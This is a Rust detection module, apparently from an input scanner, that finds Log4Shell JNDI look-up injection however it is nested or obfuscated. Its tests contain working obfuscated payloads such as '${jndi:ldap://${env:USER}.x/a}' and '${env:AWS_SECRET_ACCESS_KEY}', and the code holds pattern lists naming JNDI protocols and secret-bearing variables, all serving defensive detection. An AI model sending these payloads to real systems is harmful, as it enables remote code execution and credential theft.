//! Look-ups of log libraries: `${jndi:ldap://...}`, however it is nested.
//!
//! A logger of Java resolves `${...}` in what it logs, from the inside out. What the inner look-ups
//! give is put together here without them: `${lower:J}`, `${env:X:-j}` and `${::-j}` all give their
//! last part.
//!
//! Reads    `READ_BYTES_MAX` bytes from the first `${` on.
//! Memory   the resolved text, at most `RESOLVED_BYTES_MAX` bytes, and `DEPTH_MAX` levels.
//! Misses   names that a variable of the server's environment spells; look-ups behind a long text.
//! Source   CWE-917, CVE-2021-44228; the manual of Log4j 2, "Lookups" and "Property Substitution".

use super::caseless;
use super::marks::Marks;
use super::sign::{Input, Signs, signs};

/// Bytes that are read.
const READ_BYTES_MAX: usize = 2 * 1024;

/// Longest resolved text.
const RESOLVED_BYTES_MAX: usize = 512;

/// Look-ups within look-ups.
const DEPTH_MAX: usize = 16;

signs! {
    REMOTE = 0, "names of a directory are looked up", Certain;
    SPLICED = 1, "the name of a look-up is spliced", Certain;
    TOLD = 2, "a remote look-up in text", Likely;
    LEAKS = 3, "a variable is looked up within another look-up", Likely;
    LOCAL = 4, "a variable is looked up", Hint;
    NESTED = 5, "a look-up within a look-up", Hint;
    REMOTE_URL = 6, "a protocol of a directory", Hint;
    WORD = 7, "the name of a remote look-up", Hint;
    ENVIRONMENT = 8, "the environment or a key is looked up", Likely;
}

pub(super) fn look(input: &Input<'_>) -> Signs {
    let mut signs = Signs::default();
    if !input.marks.has(Marks::BRACE.and(Marks::COLON))
        || !input.marks.has_any(Marks::DOLLAR.and(Marks::PERCENT).and(Marks::BACKSLASH))
    {
        return signs;
    }
    let text = input.text;
    let first = memchr::memmem::find(text, b"${")
        .or_else(|| caseless::find(text, b"$%7b"))
        .or_else(|| caseless::find(text, b"%24{"));
    let Some(first) = first else { return signs };
    let read = text.get(first..).unwrap_or_default();
    let read = read.get(..READ_BYTES_MAX).unwrap_or(read);
    let mut resolved = Resolved::new();
    resolved.read(read);
    let all = resolved.text();
    let remote = caseless::find(all, b"jndi:");
    // A message about it has a sentence before or behind.
    let words = |it: &[u8]| {
        it.split(|it| *it == b' ')
            .filter(|it| it.len() > 1 && it.iter().all(u8::is_ascii_alphabetic))
            .count()
    };
    let is_told = words(text.get(..first).unwrap_or_default()) + words(all) > WORDS_MAX;
    let is_url = remote.is_some_and(|at| is_url(all.get(at + 5..).unwrap_or_default()));
    let is_spliced = remote.is_some() && !caseless::contains(read, b"jndi:");
    signs.note(
        REMOTE,
        is_url && !is_told
            || remote.is_some()
                && resolved.begins_lookup
                && !is_told
                && text.len() <= WHOLE_BYTES_MAX
                && all.len() > 8,
    );
    signs.note(SPLICED, is_spliced);
    signs.note(TOLD, remote.is_some());
    signs.note(WORD, remote.is_some());
    let names = [
        "env:", "sys:", "java:", "ctx:", "main:", "bundle:", "docker:", "k8s:", "spring:", "web:",
        "log4j:", "hostname", "date:", "lower:", "upper:", "base64:",
    ];
    let is_name = |at: usize| read.get(at + 2..).is_some_and(|it| caseless::starts_any(it, &names));
    let local = memchr::memmem::find_iter(read, b"${").take(DEPTH_MAX).any(is_name);
    signs.note(LOCAL, local);
    signs.note(NESTED, resolved.is_nested);
    signs.note(LEAKS, resolved.is_nested && local && (is_url || remote.is_some()));
    signs.note(
        REMOTE_URL,
        caseless::contains_any(all, &["ldap://", "ldaps://", "rmi://", "iiop://", "corba:"]),
    );
    signs.note(
        ENVIRONMENT,
        local
            && text.len() <= WHOLE_BYTES_MAX
            && !is_told
            && caseless::contains_any(
                read,
                &[
                    "env:aws_",
                    "env:user",
                    "env:path",
                    "sys:java.",
                    "env:host",
                    "java:version",
                    "java:runtime",
                    "java:os",
                ],
            ),
    );
    signs
}

/// Longest value that is a look-up and nothing else.
const WHOLE_BYTES_MAX: usize = 512;

/// Words that a look-up has around it without being told of.
const WORDS_MAX: usize = 5;

/// Whether `text` begins with a protocol that reaches another host.
fn is_url(text: &[u8]) -> bool {
    let text = text.trim_ascii_start();
    let count = text.iter().take_while(|it| it.is_ascii_alphabetic()).count();
    let (protocol, rest) = text.split_at_checked(count).unwrap_or_default();
    let is_protocol = [
        "ldap",
        "ldaps",
        "rmi",
        "dns",
        "iiop",
        "corba",
        "corbaname",
        "nis",
        "nds",
        "http",
        "https",
    ]
    .iter()
    .any(|it| protocol.eq_ignore_ascii_case(it.as_bytes()));
    is_protocol && rest.starts_with(b":")
}

/// A text with its inner look-ups replaced by what they give.
#[derive(Debug)]
struct Resolved {
    bytes: [u8; RESOLVED_BYTES_MAX],
    length: usize,
    /// Where the look-ups that are not closed yet begin.
    open: [usize; DEPTH_MAX],
    depth: usize,
    is_nested: bool,
    /// `jndi:` stands right at the beginning of a look-up.
    begins_lookup: bool,
}

impl Resolved {
    const fn new() -> Self {
        Self {
            bytes: [0; RESOLVED_BYTES_MAX],
            length: 0,
            open: [0; DEPTH_MAX],
            depth: 0,
            is_nested: false,
            begins_lookup: false,
        }
    }

    fn text(&self) -> &[u8] {
        self.bytes.get(..self.length).unwrap_or_default()
    }

    fn push(&mut self, byte: u8) {
        if let Some(place) = self.bytes.get_mut(self.length) {
            *place = byte;
            self.length += 1;
        }
    }

    fn read(&mut self, text: &[u8]) {
        let mut at = 0;
        while let Some(rest) = text.get(at..).filter(|it| !it.is_empty()) {
            at += match rest {
                [b'$', b'{', ..] => {
                    self.begin();
                    2
                }
                [b'$', b'%', b'7', b'b' | b'B', ..] | [b'%', b'2', b'4', b'{', ..] => {
                    self.begin();
                    4
                }
                [b'}', ..] => {
                    self.end();
                    1
                }
                [byte, ..] => {
                    self.push(*byte);
                    1
                }
                [] => 1,
            };
        }
        // What is still open is read as it stands.
        self.begins_lookup |= self.open_begins();
    }

    fn begin(&mut self) {
        self.is_nested |= self.depth > 0;
        if let Some(place) = self.open.get_mut(self.depth) {
            *place = self.length;
            self.depth += 1;
        }
    }

    fn open_begins(&self) -> bool {
        let of = |from: &usize| {
            self.text().get(*from..).is_some_and(|it| caseless::starts(it, b"jndi:"))
        };
        self.open.iter().take(self.depth).any(of)
    }

    /// Replaces the innermost look-up by what it gives: what follows `:-`, or the last part.
    fn end(&mut self) {
        let Some(depth) = self.depth.checked_sub(1) else { return };
        self.begins_lookup |= self.open_begins();
        self.depth = depth;
        let from = self.open.get(depth).copied().unwrap_or(0);
        let inside = self.text().get(from..).unwrap_or_default();
        // The remote look-up is what is sought.
        if caseless::contains(inside, b"jndi:") {
            return;
        }
        let skip = match memchr::memmem::rfind(inside, b":-") {
            Some(at) => at + 2,
            // `${upper::}` gives a colon.
            None if inside.ends_with(b"::") => inside.len().saturating_sub(1),
            None => memchr::memrchr(b':', inside).map_or(0, |at| at + 1),
        };
        // `${date:'j'}` gives what stands between the quotes.
        let is_quoted = matches!(inside.get(skip..), Some([b'\'', .., b'\'']));
        let begin = from + skip + usize::from(is_quoted);
        let end = self.length.saturating_sub(usize::from(is_quoted));
        self.bytes.copy_within(begin.min(end)..end, from.min(begin));
        self.length = from + end.saturating_sub(begin);
    }
}

#[cfg(test)]
mod tests {
    use super::super::sign::{self, Strength};
    use super::*;

    #[track_caller]
    fn check(expected: Option<Strength>, values: &[&str]) {
        sign::check(SIGNS, look, false, expected, values);
    }

    #[test]
    fn a_remote_lookup_is_certain_however_it_is_spelt() {
        check(
            Some(Strength::Certain),
            &[
                "${jndi:ldap://x/a}",
                "${JNDI:RMI://x/a}",
                "x ${jndi:dns://x}",
                "${${lower:j}ndi:${lower:l}dap://x/a}",
                "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}",
                "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}",
                "${j${lower:Nd}i${upper::}://x/a}",
                "${jndi:ldap://${env:USER}.x/a}",
                "${${date:'j'}${date:'n'}${date:'d'}i:${date:'l'}dap://x.y/a}",
                "${jndi:${lower:l}${lower:d}ap://x",
                "${:1337:-x$}${jndi:ldap://x}",
            ],
        );
    }

    #[test]
    fn what_is_told_of_it_is_no_certainty() {
        check(
            Some(Strength::Likely),
            &[
                "We were asked whether strings such as ${jndi:ldap://x/a} in the log are dangerous for us",
            ],
        );
    }

    #[test]
    fn variables_are_hints() {
        check(Some(Strength::Hint), &["${env:HOME}", "${date:yyyy}", "${a:-${b:-c}}"]);
        check(Some(Strength::Likely), &["${env:AWS_SECRET_ACCESS_KEY}"]);
        check(
            None,
            &[
                "",
                "alice",
                "${HOME}",
                "${a}:${b}",
                "jndi:ldap://x",
                "{a: 1}",
                "$5: {x}",
                "${x:-y}",
                "`${a}: ${b}`",
            ],
        );
    }

    #[test]
    fn hostile_values_take_bounded_time() {
        for unit in ["${", "}", "${a:", "${::-", ":", "${jndi:", "${lower:j}"] {
            let text: Vec<u8> = unit.bytes().cycle().take(64 * 1024).collect();
            let start = std::time::Instant::now();
            look(&Input::of(&text, false));
            assert!(start.elapsed().as_millis() < 500, "{unit}: {:?}", start.elapsed());
        }
    }
}
